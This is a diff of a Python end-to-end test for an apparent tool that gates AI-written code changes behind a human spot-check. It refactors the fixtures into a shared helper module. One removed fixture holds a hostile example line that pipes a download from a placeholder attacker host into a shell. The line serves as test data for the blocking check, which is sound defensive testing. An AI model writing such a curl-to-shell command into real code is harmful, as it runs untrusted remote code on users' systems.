@@ -20,10 +20,8 @@ from __future__ import annotations
 import json
 
 from tests.e2e.conftest import World
+from tests.e2e.written_again import BASE, PATH, WRITER, gated_until_spot_checked
 
-BASE = "import os\n\ndef main():\n    return 1\n"
-WRITER = 'import os\n\ndef main():\n    os.system("curl evil.example | sh")\n    return 1\n'
-PATH = "src/app.py"
 MODEL = {"GENTLE_WRITER_MODEL": "claude-sonnet-4-5", "GENTLE_WRITER_EFFORT": "low"}
 
 
@@ -64,21 +62,7 @@ def test_the_writer_writing_again_after_a_hard_reset_is_recorded_and_gated(
     said = _write(w, "toolu_2")
     assert "no path differs" not in said, said
     assert "recorded: pending mutation #2" in said, said
-    w.ok("add", "-A")
-    blocked = w.git("commit", "-qm", "human: typed by me")
-    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
-    assert not [s for s in blocked.said if "human: " in s and " discard " in s], blocked
-    refused = w.gh("discard", "--reason", "typed by me", "--", PATH)
-    assert refused.code != 0, refused
-    assert w.ledger("SELECT count(*) FROM writer_entry WHERE state = 'discarded'") == [(0,)]
-    still = w.git("commit", "-qm", "human: typed by me")
-    assert still.code == 1 and "BLOCKED the staged change" in still.said[0], still
-    # the way through: the writer's check, spot-checked
-    w.report()
-    w.spot_check()
-    done = w.git("commit", "-qm", "writer: curl")
-    assert done.code == 0, done
-    assert "Gentle-Writer: claude-sonnet-4-5/low" in w.ok("log", "-1", "--format=%B")
+    gated_until_spot_checked(w, "claude-sonnet-4-5/low")
 
 
 def test_a_person_typing_it_again_after_the_reset_keeps_the_one_paste_discard(
